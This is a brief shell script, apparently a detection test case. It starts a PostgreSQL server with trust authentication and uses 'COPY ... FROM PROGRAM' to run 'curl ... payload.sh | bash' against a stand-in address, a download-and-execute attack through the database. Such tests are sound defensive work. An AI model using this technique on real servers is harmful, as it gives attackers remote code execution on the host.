#!/bin/sh
. /opt/case/case.sh

bin=$(ls -d /usr/lib/postgresql/*/bin)
mkdir -p /srv/pg /run/postgresql && chown postgres /srv/pg /run/postgresql
as() { setpriv --reuid postgres --regid postgres --clear-groups env HOME=/srv/pg "$@"; }
as "$bin/initdb" -A trust -D /srv/pg/data >/dev/null
as "$bin/pg_ctl" -D /srv/pg/data -l /srv/pg/log -w start >/dev/null
psql -q -U postgres -h 127.0.0.1 -c "create table x(t text)" -c "copy x from program 'curl -s http://203.0.113.10/payload.sh | bash; uname -a'"
wait_for /tmp/reached
as "$bin/pg_ctl" -D /srv/pg/data -w -m immediate stop >/dev/null
took_place
